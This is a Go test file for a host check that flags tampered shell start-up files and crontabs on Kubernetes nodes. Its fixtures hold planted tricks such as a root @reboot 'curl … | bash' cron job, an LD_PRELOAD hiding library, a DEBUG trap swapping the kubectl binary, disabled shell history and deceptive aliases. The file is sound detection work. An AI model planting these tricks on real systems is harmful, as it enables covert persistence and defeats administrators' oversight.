//go:build linux

package host

import (
	"strings"
	"testing"
	"time"

	"github.com/kockpit/kockpit/checks"
	"github.com/kockpit/kockpit/checks/checktest"
	"github.com/kockpit/kockpit/host/hosttest"
)

// debianRootBashrc is Debian's /root/.bashrc with its colour lines switched on: nothing here
// may be reported.
const debianRootBashrc = `# ~/.bashrc: executed by bash(1) for non-login shells.
export LS_OPTIONS='--color=auto'
eval "$(dircolors)"
alias ls='ls $LS_OPTIONS'
alias ll='ls $LS_OPTIONS -l'
alias l='ls $LS_OPTIONS -lA'
alias rm='rm -i'
alias cp='cp -i'
alias grep='grep --color=auto'
alias k=kubectl
alias sudo='sudo '
export EDITOR=vim KUBE_EDITOR="code --wait"
HISTCONTROL=ignoreboth
HISTSIZE=1000
if [ -f /etc/bash_completion ] && ! shopt -oq posix; then
    . /etc/bash_completion
fi
source <(kubectl completion bash)
complete -o default -F __start_kubectl k
`

const debianBashBashrc = `# System-wide .bashrc file for interactive bash(1) shells.
[ -z "$PS1" ] && return
shopt -s checkwinsize
if [ -z "${debian_chroot:-}" ] && [ -r /etc/debian_chroot ]; then
    debian_chroot=$(cat /etc/debian_chroot)
fi
PS1='${debian_chroot:+($debian_chroot)}\u@\h:\w\$ '
if [ -x /usr/lib/command-not-found -o -x /usr/share/command-not-found/command-not-found ]; then
	function command_not_found_handle {
		if [ -x /usr/lib/command-not-found ]; then
		   /usr/lib/command-not-found -- "$1"
		   return $?
		else
		   return 127
		fi
	}
fi
`

const debianCrontab = `SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
# m h dom mon dow user	command
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
`

func healthyShellTree(t *testing.T) *hosttest.Tree {
	return hosttest.New(t).
		File("/etc/bash.bashrc", debianBashBashrc, 0o644).
		File("/etc/profile", "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nfi\nexport PATH\n", 0o644).
		File("/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\n", 0o644).
		File("/root/.bashrc", debianRootBashrc+"export KUBECONFIG=/etc/kubernetes/admin.conf\n", 0o644).
		File("/etc/kubernetes/admin.conf", "apiVersion: v1\nkind: Config\n", 0o600).
		File("/root/.bash_history", "kubectl get nodes\n", 0o600).
		File("/home/ops/.zshrc", "setopt HIST_IGNORE_DUPS\nSAVEHIST=1000\nfor f in ~/.zsh/*.zsh(N); do source $f; done\nalias k='kubectl'\n", 0o644).
		File("/etc/crontab", debianCrontab, 0o644).
		File("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n", 0o644)
}

func TestHostShellHealthy(t *testing.T) {
	tr := healthyShellTree(t)
	r := checktest.RunCheck(t, hostEnv(tr), "host.shell")
	noProblems(t, r)
	if !strings.Contains(r.Summary, "5 shell start-up files and 2 crontabs (3 jobs) read") {
		t.Errorf("summary %q", r.Summary)
	}
	// What cron runs and which kubeconfig shells use are shown, not judged.
	requireFinding(t, r, tr, "/etc/crontab", "cron runs `cd / && run-parts --report /etc/cron.hourly` on schedule `17 * * * *` as root", checks.StatusOK)
	requireFinding(t, r, tr, "/root/.bashrc", "uses the kubeconfig /etc/kubernetes/admin.conf", checks.StatusOK)
}

func TestHostShellTricks(t *testing.T) {
	tr := healthyShellTree(t).
		File("/etc/profile.d/k8s.sh", "alias k='kubectl get pods -A | grep -v decoy'\nalias kubectl='kubectl --namespace=decoy'\nexport KUBE_EDITOR=ed\nPROMPT_COMMAND='chattr +i /etc/kubernetes/manifests/*'\n", 0o644).
		File("/root/.bash_aliases", "systemctl() { echo \"Failed to connect to bus\"; }\ntrap 'cp /tmp/.k /usr/bin/kubectl' DEBUG\nexport HISTFILE=/dev/null\nexport PATH=.:/tmp/bin:$PATH\nexport KUBECONFIG=~/.kube/gone.conf\n", 0o644).
		Symlink("/root/.zsh_history", "/dev/null").
		File("/home/guest/.bash_aliases", "# tidy\n    alias ls='ls --hide=*.bak --color=auto'\n", 0o644).
		File("/home/guest/.bash_history", "", 0o600).
		File("/home/guest/.zshrc", "precmd() { iptables -F }\n", 0o644).
		File("/home/broken/.bashrc", "if [ -f x ]; then\n  echo é\n", 0o644).
		File("/etc/environment", "LD_PRELOAD=/usr/lib/libhide.so\n", 0o644).
		File("/etc/cron.d/keep-broken", "SHELL=/bin/sh\n* * * * * root chattr +i /etc/kubernetes/manifests/kube-apiserver.yaml\n", 0o644).
		File("/var/spool/cron/crontabs/root", "@reboot curl -s http://10.6.6.6/x | bash\n", 0o600)
	r := checktest.RunCheck(t, hostEnv(tr), "host.shell")
	if r.Status != checks.StatusWarn {
		t.Fatalf("status %v:\n%s", r.Status, describeFindings(r))
	}
	f := requireFinding(t, r, tr, "/etc/profile.d/k8s.sh", "alias k runs `kubectl get pods -A | grep -v decoy`, not kubectl", checks.StatusWarn)
	if f.File.Line != 1 || f.File.Column != 7 || f.Evidence[0] != "line 1: alias k='kubectl get pods -A | grep -v decoy'" {
		t.Errorf("at %d:%d, %q", f.File.Line, f.File.Column, f.Evidence)
	}
	if !strings.Contains(f.Hint, "`\\kubectl` or `command kubectl` runs the real kubectl") {
		t.Errorf("hint %q", f.Hint)
	}
	requireFinding(t, r, tr, "/etc/profile.d/k8s.sh", "alias kubectl adds `--namespace=decoy` to every kubectl you type", checks.StatusWarn)
	requireFinding(t, r, tr, "/etc/profile.d/k8s.sh", "KUBE_EDITOR=ed: `kubectl edit` opens `ed`", checks.StatusWarn)
	requireFinding(t, r, tr, "/etc/profile.d/k8s.sh", "PROMPT_COMMAND runs `chattr +i /etc/kubernetes/manifests/*` before every prompt, and it changes file attributes or modes", checks.StatusWarn)
	requireFinding(t, r, tr, "/root/.bash_aliases", "a shell function named systemctl runs instead of the systemctl command", checks.StatusWarn)
	requireFinding(t, r, tr, "/root/.bash_aliases", "trap runs `cp /tmp/.k /usr/bin/kubectl` before every command typed in these shells (DEBUG trap), and it runs from a world-writable directory, touches files Kubernetes needs", checks.StatusWarn)
	requireFinding(t, r, tr, "/root/.bash_aliases", "`HISTFILE=/dev/null`: shells that read this file keep no history", checks.StatusWarn)
	requireFinding(t, r, tr, "/root/.bash_aliases", `the current directory (".") is on PATH`, checks.StatusWarn)
	requireFinding(t, r, tr, "/root/.bash_aliases", "/tmp/bin is on PATH", checks.StatusWarn)
	requireFinding(t, r, tr, "/root/.bash_aliases", "KUBECONFIG names /root/.kube/gone.conf, which cannot be read here", checks.StatusWarn)
	requireFinding(t, r, tr, "/root/.zsh_history", "is a link to /dev/null", checks.StatusWarn)
	f = requireFinding(t, r, tr, "/home/guest/.bash_aliases", "alias ls adds `--hide=*.bak`: ls hides the files that match", checks.StatusWarn)
	if f.File.Line != 2 || f.File.Column != 11 {
		t.Errorf("ls alias at %d:%d", f.File.Line, f.File.Column)
	}
	requireFinding(t, r, tr, "/home/guest/.bash_history", "is empty and was written just now", checks.StatusWarn)
	requireFinding(t, r, tr, "/home/guest/.zshrc", "zsh runs the function precmd before every prompt", checks.StatusWarn)
	requireFinding(t, r, tr, "/home/broken/.bashrc", "bash cannot parse line", checks.StatusWarn)
	requireFinding(t, r, tr, "/etc/environment", "LD_PRELOAD=/usr/lib/libhide.so: every program started from these shells loads it", checks.StatusWarn)
	f = requireFinding(t, r, tr, "/etc/cron.d/keep-broken", "cron runs `chattr +i /etc/kubernetes/manifests/kube-apiserver.yaml` every minute as root, and it changes file attributes or modes, touches files Kubernetes needs", checks.StatusWarn)
	if f.File.Line != 2 || f.File.Column != 16 {
		t.Errorf("cron job at %d:%d", f.File.Line, f.File.Column)
	}
	requireFinding(t, r, tr, "/var/spool/cron/crontabs/root", "cron runs `curl -s http://10.6.6.6/x | bash` at every boot as root, and it downloads code and runs it", checks.StatusWarn)
	// The healthy lines around them stay quiet: Debian's aliases, k=kubectl, the standard crontab.
	for _, fd := range r.Findings {
		if fd.Severity > checks.StatusOK && fd.File != nil && (fd.File.Path == tr.Path("/root/.bashrc") || fd.File.Path == tr.Path("/etc/crontab")) {
			t.Errorf("healthy file reported: %s", fd.Message)
		}
	}

	// A history emptied long ago, or in an unpacked scenario, is no sign of anything.
	tr.Mtime("/home/guest/.bash_history", time.Now().Add(-30*24*time.Hour))
	if f := findingOn(checktest.RunCheck(t, hostEnv(tr), "host.shell"), tr, "/home/guest/.bash_history", "is empty"); f != nil {
		t.Errorf("old empty history reported: %s", f.Message)
	}
}
